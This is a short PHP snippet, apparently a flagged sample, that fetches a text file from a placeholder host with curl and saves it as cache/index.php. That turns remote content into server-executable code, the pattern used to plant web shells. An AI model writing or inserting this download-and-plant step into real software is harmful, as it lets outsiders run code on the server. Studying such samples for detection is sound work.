<?php
$c = curl_init('http://parts.h.example/p.txt');
curl_setopt($c, CURLOPT_RETURNTRANSFER, true);
$page = curl_exec($c);
curl_close($c);
file_put_contents(__DIR__ . '/cache/index.php', $page); // gatehouse: flagged
